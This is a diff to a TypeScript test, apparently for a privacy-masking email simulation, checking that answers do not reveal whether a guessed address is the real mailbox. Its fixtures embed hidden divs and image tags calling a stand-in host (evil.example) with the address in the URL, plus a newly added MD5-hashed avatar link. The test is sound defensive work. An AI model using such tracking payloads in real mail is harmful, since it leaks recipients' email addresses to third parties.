@@ -1,6 +1,7 @@
 // A contact that guesses: whatever it writes comes back to it as it was, so that no answer tells whether a guess was the
 // mailbox (POST /v1/inbound-emails/simulate).
 import assert from "node:assert/strict";
+import { createHash } from "node:crypto";
 import { after, test } from "node:test";
 import { C, D, IP_C, startMaskedSimulation } from "../support/masked-simulation.ts";
 
@@ -16,6 +17,7 @@ async function answerTo(guess: string) {
   const html = [
     `<div style="display:none">first@x.example ${guess} last@x.example</div>`,
     `<img src="https://evil.example/${b64}.gif"><img src="https://evil.example/?e=${guess}">`,
+    `<img src="https://pictures.example/avatar/${md5(guess)}?s=80"><p>${md5(guess)}</p>`,
     `<p>${guess.replace("@", "&#64;")} ${guess.replace("@", " at ")} <b>${guess.slice(0, 2)}</b>${guess.slice(2)}</p>`,
   ].join("");
   const ids = ["<1@x.example>", `<${guess}>`, "<2@x.example>"];
@@ -44,12 +46,21 @@ test("the answer to a list with the mailbox on it is that to any other list", as
   const [reported, guessed] = [await answerTo(D), await answerTo(OTHER)];
   assert.equal(
     reported.seen,
-    guessed.seen.replace(/annb|(?<=<.b>)nb/g, (name) => name.replace("b", "a")).replaceAll(b64Of(OTHER), b64Of(D)),
+    guessed.seen
+      .replace(/annb|(?<=<.b>)nb/g, (name) => name.replace("b", "a"))
+      .replaceAll(b64Of(OTHER), b64Of(D))
+      .replaceAll(md5(OTHER), md5(D)),
   );
   assert.ok(reported.seen.includes("Yes. ALIAS"), "the mailbox's own words stay clean");
-  const stays = [`https://evil.example/?e=${D}`, `${b64Of(D)}.gif`];
+  assert.ok(reported.seen.split(md5(D)).length === 3, "as it was sent");
+  const stays = [`avatar/${md5(D)}?s=80`, `https://evil.example/?e=${D}`, `${b64Of(D)}.gif`];
   for (const link of stays) assert.ok(reported.shown.includes(link), link);
 });
+
+/** As addresses of people's pictures hold it. */
+function md5(email: string): string {
+  return createHash("md5").update(email).digest("hex");
+}
 
 function b64Of(guess: string): string {
   return Buffer.from(`a@x.example,${guess}`).toString("base64");
